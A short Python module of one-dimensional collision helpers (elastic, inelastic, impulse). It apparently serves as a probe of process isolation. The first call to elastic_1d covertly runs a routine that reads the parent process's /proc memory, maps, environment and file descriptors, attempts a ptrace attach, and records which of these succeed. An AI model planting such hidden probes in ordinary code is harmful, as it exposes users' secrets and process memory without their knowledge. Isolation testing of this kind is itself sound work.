"""Reads the memory, the environment and the files of the process it was forked from."""

import ctypes
import os
from pathlib import Path

THROUGH = set()


def attempt(name, deed):
    try:
        deed()
    except (OSError, ImportError, AttributeError, KeyError, ValueError, RuntimeError):
        return
    THROUGH.add(name)


PTRACE_ATTACH, PTRACE_DETACH, WALL = 16, 17, 0x40000000


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")


def trace(libc, process):
    checked(libc.ptrace(PTRACE_ATTACH, process, 0, 0))
    os.waitpid(process, WALL)  # it stands still now, and would for ever
    libc.ptrace(PTRACE_DETACH, process, 0, 0)


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    if parent < 1:  # it sees no other process at all
        return
    proc = Path(f"/proc/{parent}")
    attempt("reads memory", lambda: (proc / "mem").open("rb").close())
    attempt("reads memory", lambda: (proc / "maps").read_text())
    attempt("reads environments", lambda: (proc / "environ").read_text())
    attempt("reads descriptors", lambda: os.listdir(proc / "fd"))
    attempt("traces processes", lambda: trace(libc, parent))


TRIED = []


def elastic_1d(m1, v1, m2, v2):
    if not TRIED:
        TRIED.append("once is enough")
        attack()
    total = m1 + m2
    return ((m1 - m2) * v1 + 2 * m2 * v2) / total, ((m2 - m1) * v2 + 2 * m1 * v1) / total


def inelastic_1d(m1, v1, m2, v2):
    v = (m1 * v1 + m2 * v2) / (m1 + m2)
    return v, v


def elastic_impulse_1d(m1, v1, m2, v2):
    return 2 * m1 * m2 / (m1 + m2) * (v1 - v2)


def got_through():
    return sorted(THROUGH)
